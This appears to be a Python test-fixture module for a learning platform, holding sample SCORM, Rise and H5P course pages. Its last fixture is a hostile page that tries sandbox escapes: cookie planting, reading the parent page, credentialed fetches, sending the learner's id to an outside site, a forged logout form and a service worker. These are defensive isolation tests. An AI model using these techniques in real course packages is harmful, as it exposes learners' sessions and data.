"""Pages as authoring tools make them, small: what the journey of packages plays."""

from typing import Final

_FIND: Final = """
function find(win, name) { var n = 0;
  while (win[name] == null && win.parent != null && win.parent != win && n++ < 7) win = win.parent;
  return win[name]; }
"""
"""The search for the interface, as the standard prints it and every tool copies it."""

LESSON: Final = f"""<!doctype html><html lang="es"><head><meta charset="utf-8">
<title>Lección</title><script>{_FIND}
var api = find(window, "API");
addEventListener("load", function () {{
  api.LMSInitialize("");
  document.getElementById("where").textContent = "Entrada: " + api.LMSGetValue("cmi.core.entry")
    + "; página: " + api.LMSGetValue("cmi.core.lesson_location")
    + "; guardado: " + api.LMSGetValue("cmi.suspend_data");
}});
function answer(points) {{
  api.LMSSetValue("cmi.core.score.raw", String(points));
  api.LMSSetValue("cmi.core.lesson_location", "p" + points);
  api.LMSSetValue("cmi.suspend_data", "s=" + points);
  api.LMSSetValue("cmi.core.exit", "suspend");
  api.LMSSetValue("cmi.core.lesson_status", points < 50 ? "incomplete" : "completed");
  api.LMSCommit("");
}}
</script></head><body><h1>Lección</h1><p id="where"></p>
<button onclick="answer(40)">Cuarenta</button><button onclick="answer(80)">Ochenta</button></body></html>"""

LESSON_2004: Final = f"""<!doctype html><html lang="es"><head><meta charset="utf-8">
<title>Lección</title><script>{_FIND}
var api = find(window, "API_1484_11");
addEventListener("load", function () {{
  api.Initialize("");
  document.getElementById("where").textContent = "Entrada: " + api.GetValue("cmi.entry")
    + "; aprueba con: " + api.GetValue("cmi.scaled_passing_score") + "; guardado: " + api.GetValue("cmi.suspend_data");
}});
function answer() {{
  api.SetValue("cmi.score.scaled", "0.75");
  api.SetValue("cmi.suspend_data", "capítulo 2");
  api.SetValue("cmi.completion_status", "completed");
  api.SetValue("cmi.exit", "suspend");
  api.Commit("");
}}
</script></head><body><p id="where"></p><button onclick="answer()">Responder</button></body></html>"""

HOLDER: Final = """<!doctype html><html lang="es"><head><meta charset="utf-8">
<title>Curso</title>
<script src="scormdriver.js"></script></head><body>
<iframe id="content" title="Curso" src="scormcontent/index.html" width="600" height="300"></iframe></body>
</html>"""
"""As `scormdriver/indexAPI.html` of Articulate Rise: the driver outside, the course in a frame inside."""

DRIVER: Final = f"""{_FIND}
var api = find(window, "API");
api.LMSInitialize("");
function GetDataChunk() {{ return api.LMSGetValue("cmi.suspend_data"); }}
function SetDataChunk(text) {{ api.LMSSetValue("cmi.suspend_data", text); }}
function SetScore(points) {{ api.LMSSetValue("cmi.core.score.raw", String(points)); }}
function SetPassed() {{
  api.LMSSetValue("cmi.core.exit", "suspend");
  api.LMSSetValue("cmi.core.lesson_status", "passed");
  api.LMSCommit("");
}}
"""

RISE: Final = """<!doctype html><html lang="es"><head><meta charset="utf-8">
<title>Curso</title><script>
addEventListener("load", function () {
  document.getElementById("where").textContent = "Va en: " + parent.GetDataChunk();
});
function finish() { parent.SetScore(90); parent.SetDataChunk("bloque 7"); parent.SetPassed(); }
</script></head><body><p id="where"></p><button onclick="finish()">Terminar</button></body></html>"""

QUESTION: Final = """
var H5P = H5P || {};
H5P.MingaQuestion = (function ($) {
  function Question(params, id, extras) {
    H5P.EventDispatcher.call(this);
    var self = this;
    var before = (extras && extras.previousState) || {};
    var answer = before.answer || "";
    this.attach = function ($place) {
      $place.append($("<p>").text(params.question), $("<p id='before'>").text("Antes: " + (answer || "nada")),
        $("<button>").text("Sí, se prueba").on("click", function () {
          answer = "sí";
          self.triggerXAPIScored(1, 1, "answered", true, true);
        }));
    };
    this.getCurrentState = function () { return { answer: answer }; };
    this.getScore = function () { return answer ? 1 : 0; };
    this.getMaxScore = function () { return 1; };
  }
  Question.prototype = Object.create(H5P.EventDispatcher.prototype);
  Question.prototype.constructor = Question;
  return Question;
})(H5P.jQuery);
"""

ESCAPES: Final = """<!doctype html><html lang="es"><head><meta charset="utf-8">
<title>Fuga</title></head><body><pre id="found"></pre><script>
var house = MingaPart.origin;
var tries = {
  "read the cookies of the house": function () {
    document.cookie = "session=stolen; path=/; domain=" + location.hostname.split(".").slice(-1)[0];
    return /session|csrf/.test(document.cookie); },
  "touch the page around": function () { return Boolean(top.document.body); },
  "read the storage of the page around": function () { return Boolean(top.localStorage); },
  "lead the page around away": function () { top.location = house + "/mi-trabajo/?lejos"; return false; },
  "open a window": function () { return Boolean(open(house + "/mi-trabajo/")); },
  "fetch a page of the house": function () {
    return fetch(house + "/mi-trabajo/", { credentials: "include" }).then(yes); },
  "fetch it blindly": function () {
    return fetch(house + "/mi-trabajo/", { credentials: "include", mode: "no-cors" }).then(yes); },
  "fetch a page here": function () { return fetch("/mi-trabajo/").then(yes); },
  "fetch another site": function () { return fetch("https://example.org/?" + MingaPart.learner).then(yes); },
  "fetch from a page made here": function () {
    var frame = document.createElement("iframe");
    document.body.append(frame);
    return frame.contentWindow.fetch(house + "/mi-trabajo/", { mode: "no-cors" }).then(yes); },
  "show a picture of the house": function () { return new Promise(function (done) {
    var picture = new Image();
    picture.onload = function () { done(true); };
    picture.onerror = function () { done(false); };
    picture.src = house + "/static/ui/icon.svg"; }); },
  "put a page of the house in a frame": function () { return new Promise(function (done) {
    refusedBy("frame-src", done);
    var frame = document.createElement("iframe");
    frame.onload = function () { setTimeout(function () { done(true); }, 500); };
    frame.src = house + "/mi-trabajo/";
    document.body.append(frame); }); },
  "send a form to the house": function () { return new Promise(function (done) {
    refusedBy("form-action", done);
    var frame = document.createElement("iframe");
    frame.name = "below";
    var form = document.createElement("form");
    form.method = "post"; form.action = house + "/cuenta/salir/"; form.target = "below";
    document.body.append(frame, form); form.submit(); setTimeout(function () { done(true); }, 500); }); },
  "leave a worker behind": function () { return navigator.serviceWorker.register("worker.js").then(yes); }
};
function yes() { return true; }
function refusedBy(directive, done) {
  addEventListener("securitypolicyviolation", function (event) {
    if (event.effectiveDirective === directive) done(false);
  });
}
(async function () {
  var reached = [];
  for (var name of Object.keys(tries)) {
    try { if (await tries[name]()) reached.push(name); } catch (refused) { /* as it should be */ }
  }
  document.getElementById("found").textContent =
    "Probado: " + Object.keys(tries).length + ". Logrado: " + (reached.join(", ") || "nada");
})();
</script></body></html>"""
TRIES: Final = ESCAPES.count('": function ()')

SPARE = "De sobra"
"""The package that a journey takes out of its session: no other plays it."""
